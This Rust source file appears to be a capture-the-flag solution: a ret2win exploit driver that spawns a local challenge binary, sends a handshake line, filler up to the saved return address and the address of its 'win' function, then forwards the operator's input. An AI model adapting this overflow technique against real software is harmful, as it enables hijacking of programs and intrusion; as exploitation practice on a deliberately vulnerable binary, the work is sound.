use std::io::{self, copy, Write};
use std::mem;
use std::process::{Command, Stdio};
use std::thread;

use anyhow::{Context, Result};
use clap::Parser;

use chal2_bin::{elf, layout, payload};

#[derive(Parser)]
#[command(about = "ret2win driver for the chal2 intake overflow")]
struct Opts {
    /// path to the target binary
    #[arg(default_value = "./chall")]
    target: String,

    /// pivot address; defaults to the win symbol from the target image
    #[arg(long, value_parser = parse_hex)]
    win: Option<u64>,

    /// filler bytes up to the saved return address
    #[arg(long, default_value_t = layout::RET_OFFSET)]
    pad: usize,

    /// team id for the handshake line
    #[arg(long, default_value = "xpl")]
    team: String,
}

fn parse_hex(raw: &str) -> Result<u64, std::num::ParseIntError> {
    u64::from_str_radix(raw.trim_start_matches("0x"), 16)
}

// component trait
trait Component {
    fn process(&mut self) -> Result<()>;
}

// payload generator component
struct PayloadGenerator {
    team: String,
    pad: usize,
    win: u64,
    output: Vec<u8>,
}

impl PayloadGenerator {
    fn new(team: String, pad: usize, win: u64) -> Self {
        PayloadGenerator {
            team,
            pad,
            win,
            output: Vec::new(),
        }
    }

    fn get_output(&mut self) -> Vec<u8> {
        mem::take(&mut self.output)
    }
}

impl Component for PayloadGenerator {
    fn process(&mut self) -> Result<()> {
        // the greeter eats one line before the vulnerable read, so the
        // handshake goes first, then filler up to the saved return
        // address, then the pivot
        let mut bytes = self.team.as_bytes().to_vec();
        bytes.push(b'\n');
        bytes.extend(payload::ret2win(self.pad, self.win));
        self.output = bytes;
        Ok(())
    }
}

// process manager component
struct ProcessManager {
    target: String,
    payload: Vec<u8>,
}

impl ProcessManager {
    fn new(target: String) -> Self {
        ProcessManager {
            target,
            payload: Vec::new(),
        }
    }

    fn set_payload(&mut self, payload: Vec<u8>) {
        self.payload = payload;
    }
}

impl Component for ProcessManager {
    fn process(&mut self) -> Result<()> {
        // spawn the target
        let mut child = Command::new(&self.target)
            .stdin(Stdio::piped()) // write to its stdin
            .stdout(Stdio::inherit()) // inherit stdout so the leak lands on ours
            .stderr(Stdio::inherit()) // inherit stderr for error messages
            .spawn()
            .with_context(|| format!("spawn {}", self.target))?;

        // handle writing the payload and maintaining interaction
        if let Some(mut stdin) = child.stdin.take() {
            let payload = self.payload.clone();

            // feed the payload from its own thread, then keep the pipe
            // open by forwarding the operator's stdin
            thread::spawn(move || {
                if let Err(e) = stdin.write_all(&payload) {
                    eprintln!("[!] failed to write payload: {}", e);
                    return;
                }

                let mut user_input = io::stdin();
                if let Err(e) = copy(&mut user_input, &mut stdin) {
                    eprintln!("[!] error while forwarding input: {}", e);
                }
            });
        }

        // wait for the target to exit
        let status = child.wait().context("wait for target")?;
        eprintln!("[*] target exited: {}", status);
        Ok(())
    }
}

// exploit coordinator
struct Exploit {
    payload_generator: PayloadGenerator,
    process_manager: ProcessManager,
}

impl Exploit {
    fn new(opts: &Opts, win: u64) -> Self {
        Exploit {
            payload_generator: PayloadGenerator::new(opts.team.clone(), opts.pad, win),
            process_manager: ProcessManager::new(opts.target.clone()),
        }
    }

    fn run(&mut self) -> Result<()> {
        // generate the overflow chain
        self.payload_generator.process()?;
        let payload = self.payload_generator.get_output();

        // send payload to process manager and execute
        self.process_manager.set_payload(payload);
        self.process_manager.process()?;

        Ok(())
    }
}

fn main() -> Result<()> {
    let opts = Opts::parse();

    let win = match opts.win {
        Some(addr) => addr,
        None => elf::symbol_addr(&opts.target, "win")?,
    };
    eprintln!("[*] pivoting to win @ {:#x} over {} filler bytes", win, opts.pad);

    let mut exploit = Exploit::new(&opts, win);
    exploit.run()
}
